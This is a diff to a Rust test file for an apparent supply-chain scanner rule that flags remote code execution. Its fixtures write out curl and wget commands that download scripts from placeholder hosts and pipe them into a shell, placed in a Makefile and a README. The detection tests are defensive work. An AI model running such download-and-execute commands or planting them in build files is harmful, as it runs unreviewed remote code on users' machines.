@@ -71,8 +71,13 @@ fn round_17_a_download_piped_into_the_shell_a_variable_names() {
     let rule = "supply_chain.remote-code";
     let make = "SRC ?= http://192.0.2.66/kit\n\ninit:\n\t@curl -fsS $(SRC)/init | $(SHELL)\n";
     assert_eq!(worst(&[("Makefile", make)], rule), Some(Critical));
-    let sh = "U=\"https://dl.tool.example/i.sh\"\nwget -qO- \"$U\" | \"$SHELL\"\n";
-    assert_eq!(worst(&[("get.sh", sh)], rule), Some(High));
+    // (A documentation example: in a script the bundle ships it is critical anyway.)
+    let sh =
+        "# Get\n\n```sh\nU=\"https://dl.tool.example/i.sh\"\nwget -qO- \"$U\" | \"$SHELL\"\n```\n";
+    assert_eq!(worst(&[("README.md", sh)], rule), Some(High));
+    let fmt_doc =
+        "# Get\n\n```sh\nU=\"https://dl.tool.example/i.sh\"\nwget -qO- \"$U\" | jq .\n```\n";
+    assert_eq!(worst(&[("README.md", fmt_doc)], rule), None);
     // A formatter after the download, and the shell's name printed, are not a run.
     let fmt = "info:\n\tcurl -s $(API)/status | $(shell which jq) .\n\techo $(SHELL)\n";
     assert_eq!(worst(&[("Makefile", fmt)], rule), None);
